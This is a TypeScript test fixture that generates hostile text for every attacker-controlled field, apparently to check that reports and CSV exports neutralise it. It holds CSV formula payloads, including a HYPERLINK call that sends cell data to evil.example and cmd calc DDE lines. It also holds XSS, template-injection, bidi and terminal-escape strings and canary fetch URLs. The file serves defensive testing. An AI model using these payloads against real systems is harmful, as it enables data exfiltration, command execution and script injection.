import type { TextField } from "../../reliability/support/small-tenant.js";

/**
 * Hostile text for every attacker-controlled field: markup and script, template syntax,
 * spreadsheet formulas, bidi and zero-width tricks, terminal escapes, NUL, and references to a
 * local server that must never be fetched. Each field's payload starts with a marker naming the
 * field so a test can tell where a string surfaced.
 */
export const BIDI = /[\u202a-\u202e\u2066-\u2069]/;
export const ANSI_OR_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

export function markerOf(field: TextField): string {
  return `PT${field.replace(/[^a-zA-Z]/g, "")}`;
}

/** CSV formula starts, one per field (rotated), so every start character is tried somewhere. */
const FORMULA_STARTS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"];

/** Fields whose payload is 100 kB long (the rest stay short so the report stays small). */
const LONG_FIELDS: ReadonlySet<TextField> = new Set(["rule.displayName", "alert.description"]);

export function hostileText(canaryOrigin: string): (field: TextField, usual: string) => string {
  let n = 0;
  return (field: TextField, usual: string) => {
    const formula = FORMULA_STARTS[n++ % FORMULA_STARTS.length];
    const parts = [
      // Leads with a formula so the CSV cell starts with it.
      formula,
      ` ${markerOf(field)} ${usual} `,
      `<script>alert(document.domain)</script><img src=x onerror=alert(1)>"'><svg onload=alert(2)>`,
      "{{constructor.constructor('return process')()}} {{{raw}}} {{> styles}}",
      "invoice\u202Egnp.exe \u2066admin\u2069 \u202Dx\u202C",
      "pay\u200Bpal\u200D\uFEFF",
      "\u001b[31mRED\u001b[0m\u001b]0;owned\u0007\u001b[2J\u009b31m",
      "nul\u0000byte",
      `<img src="${canaryOrigin}/pixel.png"><link rel="stylesheet" href="${canaryOrigin}/x.css">`,
      `<style>@import url(${canaryOrigin}/i.css); body{background:url(${canaryOrigin}/bg.png)}</style>`,
      `<iframe src="${canaryOrigin}/frame"></iframe><meta http-equiv="refresh" content="0;url=${canaryOrigin}/refresh">`,
      `<a href="${canaryOrigin}/click">click</a> ${canaryOrigin}/bare-url`,
    ];
    const text = parts.join("");
    return LONG_FIELDS.has(field) ? `${text}${"A".repeat(100_000)}` : text;
  };
}
